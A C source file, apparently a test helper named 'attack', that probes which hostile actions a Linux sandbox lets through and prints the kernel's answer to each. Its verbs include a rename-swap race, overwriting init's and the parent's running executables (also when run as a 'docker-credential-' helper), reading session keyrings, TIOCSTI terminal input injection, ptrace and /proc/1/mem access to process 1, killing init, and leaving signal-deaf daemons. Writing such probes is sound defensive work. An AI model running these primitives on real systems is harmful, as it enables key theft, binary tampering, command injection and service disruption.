/* attack: what a hostile process does that a shell cannot. Each verb says what the kernel answered, one line a try. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static void said(const char *what, long result) {
    printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "OK");
    fflush(stdout);
}

/* exchange A B STOP: swaps two names until a third exists. */
static int exchange(char **args) {
    long rounds = 0;
    while (access(args[2], F_OK) != 0) {
        if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2 /* RENAME_EXCHANGE */) != 0) {
            said("renameat2", -1);
            return 1;
        }
        rounds++;
        usleep(50);
    }
    printf("exchanged %s\n", rounds > 100 ? "often" : "seldom");
    return 0;
}

/* overwrite: keeps the programs of its parents open, and tries to write to them while they run and when they end. */
static int overwrite(void) {
    char path[64];
    int held[3] = {-1, -1, -1};
    int pids[3] = {1, getppid(), getpid()};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/exe", pids[i]);
        held[i] = open(path, O_RDONLY);
    }
    signal(SIGHUP, SIG_IGN);
    for (int n = 0; n < 200000; n++) {
        for (int i = 0; i < 2; i++) {
            if (held[i] < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int file = open(path, O_WRONLY);
            if (file >= 0) {
                if (write(file, "overwritten", 11) == 11) puts("overwritten");
                close(file);
            }
        }
        if (n == 1000) kill(getppid(), SIGKILL);
    }
    return 0;
}

/* keys: looks for what the keyrings of whoever started this hold. */
static int keys(void) {
    char text[256] = "";
    long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
    said("get-session", ring);
    said("add", syscall(SYS_add_key, "user", "mine", "x", 1, KEY_SPEC_PROCESS_KEYRING));
    long key = syscall(SYS_request_key, "user", "canary", NULL, 0);
    said("request", key);
    if (syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1, 0) > 0) puts(text);
    return 0;
}

/* with-key TEXT PROGRAM...: runs a program with a key in its session keyring. */
static int with_key(char **args) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", "canary", args[0], strlen(args[0]), KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("key");
        return 1;
    }
    execvp(args[1], args + 1);
    perror(args[1]);
    return 1;
}

/* type: puts letters into the input of the terminal, if there is one. */
static int type(void) {
    for (int fd = 0; fd < 3; fd++) {
        char shift = 2 /* TIOCL_SETSEL */;
        said("tiocsti", ioctl(fd, TIOCSTI, "Z"));
        said("tioclinux", ioctl(fd, TIOCLINUX, &shift));
    }
    int tty = open("/dev/tty", O_RDWR);
    said("open-tty", tty);
    if (tty >= 0) said("tiocsti", ioctl(tty, TIOCSTI, "Z"));
    return 0;
}

/* keepers: reaches for process 1. */
static int keepers(void) {
    char byte = 0;
    struct iovec ours = {&byte, 1}, theirs = {(void *)0x400000, 1};
    said("ptrace", ptrace(PTRACE_ATTACH, 1, 0, 0));
    said("seize", ptrace(PTRACE_SEIZE, 1, 0, 0));
    said("readv", process_vm_readv(1, &ours, 1, &theirs, 1, 0));
    said("writev", process_vm_writev(1, &ours, 1, &theirs, 1, 0));
    said("mem", open("/proc/1/mem", O_RDWR));
    said("oom", open("/proc/1/oom_score_adj", O_WRONLY));
    said("exe", open("/proc/1/exe", O_RDONLY));
    said("root", open("/proc/1/root", O_RDONLY));
    said("cwd", open("/proc/1/cwd", O_RDONLY));
    said("kill", kill(1, SIGKILL));
    return 0;
}

/* open PATH...: opens each for reading and writing. */
static int open_all(char **paths) {
    for (; *paths; paths++) said(*paths, open(*paths, O_RDWR | O_NONBLOCK));
    return 0;
}

/* The address NAME-END of a socket without a file. */
static socklen_t abstract(struct sockaddr_un *address, const char *name, const char *end) {
    memset(address, 0, sizeof *address);
    address->sun_family = AF_UNIX;
    int length = snprintf(address->sun_path + 1, sizeof address->sun_path - 1, "%s-%s", name, end);
    return offsetof(struct sockaddr_un, sun_path) + 1 + length;
}

/* sockets NAME: connects and sends to sockets without a file that listen already, and connects to one of its own. */
static int sockets(const char *name) {
    struct sockaddr_un address;
    socklen_t length = abstract(&address, name, "stream");
    said("stream", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, length));
    length = abstract(&address, name, "datagrams");
    said("datagram", sendto(socket(AF_UNIX, SOCK_DGRAM, 0), "x", 1, 0, (void *)&address, length));
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    length = abstract(&address, name, "own");
    if (bind(listener, (void *)&address, length) || listen(listener, 1)) said("listen", -1);
    if (fork() == 0) {
        said("own", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, length));
        _exit(0);
    }
    wait(NULL);
    return 0;
}

/* landlock: the version of Landlock that the kernel has, 0 for none. */
static int landlock(void) {
    long version = syscall(444 /* landlock_create_ruleset */, NULL, 0, 1);
    printf("%ld\n", version < 0 ? 0 : version);
    return 0;
}

/* daemon SECONDS: leaves a process behind that hears no signal. */
static int daemonise(const char *seconds) {
    if (fork() == 0) {
        setsid();
        for (int signal_number = 1; signal_number < 32; signal_number++) signal(signal_number, SIG_IGN);
        if (fork() == 0) execl("/bin/sleep", "sleep", seconds, NULL);
        _exit(0);
    }
    wait(NULL);
    return 0;
}

int main(int count, char **args) {
    const char *verb = count > 1 ? args[1] : strrchr(args[0], '/') ? strrchr(args[0], '/') + 1 : args[0];
    if (!strcmp(verb, "exchange") && count == 5) return exchange(args + 2);
    if (!strcmp(verb, "overwrite") || strstr(args[0], "docker-credential-")) return overwrite();
    if (!strcmp(verb, "keys")) return keys();
    if (!strcmp(verb, "with-key") && count > 3) return with_key(args + 2);
    if (!strcmp(verb, "type")) return type();
    if (!strcmp(verb, "keepers")) return keepers();
    if (!strcmp(verb, "open")) return open_all(args + 2);
    if (!strcmp(verb, "sockets") && count == 3) return sockets(args[2]);
    if (!strcmp(verb, "landlock")) return landlock();
    if (!strcmp(verb, "who")) return printf("%d\n", (int)geteuid()) < 0;
    if (!strcmp(verb, "daemon") && count == 3) return daemonise(args[2]);
    fprintf(stderr, "attack: no such verb\n");
    return 2;
}
